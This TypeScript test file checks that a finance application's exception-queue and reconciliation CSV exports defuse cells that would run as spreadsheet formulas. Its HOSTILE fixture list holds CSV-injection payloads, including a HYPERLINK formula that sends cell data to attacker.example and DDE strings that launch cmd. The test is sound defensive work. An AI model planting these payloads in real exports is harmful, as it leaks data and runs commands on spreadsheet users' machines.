/**
 * Every CSV export defuses text a spreadsheet would run as a formula: text people and source
 * systems typed (subjects, messages, notes, labels, explanations) reaches finance's
 * spreadsheets, and a cell starting with =, +, -, @ would run there.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reconciliationRuns, reconciliationVariances } from "@/server/db/schema";
import { UNRESTRICTED } from "@/server/auth/scope";
import { VARIANCE_CLASSES, isSourceApprovalClass } from "./reconciliation/classes";
import { reconciliationCsv } from "./reconciliation/export";
import { exportExceptionsCsv } from "./exceptions/export";
import { raiseException } from "./exceptions/raise";
import { parseCsv } from "./imports/csv-time";
import { createTestDatabase, type TestDatabase } from "../../../test/db";
import { makeUser, serviceCtxFor, type TestUser } from "../../../test/factories";
import { buildWorld, type World } from "../../../test/world";

let t: TestDatabase;
let w: World;
let finance: TestUser;
beforeAll(async () => {
  t = await createTestDatabase();
  w = await buildWorld(t.db);
  finance = await makeUser(t.db, { roles: ["finance_ops", "admin"] });
});
afterAll(async () => t?.drop());

const HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", " =1+1", "\t=1+1", "＝1+1"];

/** Cells a spreadsheet would run: =, +, -, @ first (after spaces or controls), unless a plain number. */
const running = (csv: string) =>
  parseCsv(csv)
    .flatMap((r) => r.fields)
    .filter((c) => /^[\s\u0000-\u001f]*[=+\-@＝＋－＠]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

describe("CSV exports", () => {
  it("the exception queue export defuses subjects, messages and fixes", async () => {
    for (const [i, text] of HOSTILE.entries()) {
      await t.db.transaction((tx) =>
        raiseException(tx, "system:test", {
          code: "PAYLOAD_INVALID",
          subjectType: "raw_record",
          subjectKey: `raw:harvest:time_entry:formula-${i}`,
          subjectLabel: text,
          message: text,
          suggestedFix: text,
          sourceSystem: "harvest",
          details: {},
          link: {},
        }),
      );
    }
    let csv = "";
    for await (const line of exportExceptionsCsv({ ctx: serviceCtxFor(t.db, finance), viewer: { userId: finance.id, roles: finance.roles, scope: UNRESTRICTED }, input: {} })) csv += line;
    expect(csv).toContain("'=HYPERLINK");
    expect(parseCsv(csv).length).toBeGreaterThan(HOSTILE.length);
    expect(running(csv)).toEqual([]);
  });

  it("the reconciliation close file defuses labels, references, notes and explanations", async () => {
    const side = { count: 1, hours: "-1.50", value: "-120.00", unvalued: 0 };
    const variances = Object.fromEntries(VARIANCE_CLASSES.filter((c) => !isSourceApprovalClass(c)).map((c) => [c, { count: 1, hours: "-1.50", value: "-120.00", unexplained: 1 }]));
    const [run] = await t.db
      .insert(reconciliationRuns)
      .values({
        legalEntityId: w.us.id,
        period: "2026-05",
        status: "succeeded",
        trigger: "manual",
        requestedBy: "system:test",
        finishedAt: new Date(),
        erpSideNote: HOSTILE[0],
        reportingCurrency: "USD",
        totals: { sourceApproved: side, canonical: side, erpPosted: side, invoiced: side, matched: 0, lines: HOSTILE.length, variances: variances as never, sourceApprovals: { checked: false, note: HOSTILE[1]! } },
        matchedLines: 0,
        totalLines: HOSTILE.length,
        correlationId: "test",
      })
      .returning({ id: reconciliationRuns.id });
    await t.db.insert(reconciliationVariances).values(
      HOSTILE.map((text) => ({
        runId: run!.id,
        varianceClass: "hours_mismatch" as const,
        erpId: text,
        sourceRef: text,
        projectLabel: text,
        personLabel: text,
        workDate: "2026-05-04",
        hoursOurs: "-1.50",
        hoursErp: "2.00",
        currency: "USD",
        valueReporting: "-120.00",
        explanation: text,
      })),
    );
    const { csv } = await reconciliationCsv({ ctx: serviceCtxFor(t.db, finance), runId: run!.id, scope: UNRESTRICTED });
    expect(csv).toContain("'=HYPERLINK");
    // numbers stay numbers
    expect(csv).toContain(",-1.50,2.00,");
    expect(running(csv)).toEqual([]);
  });
});
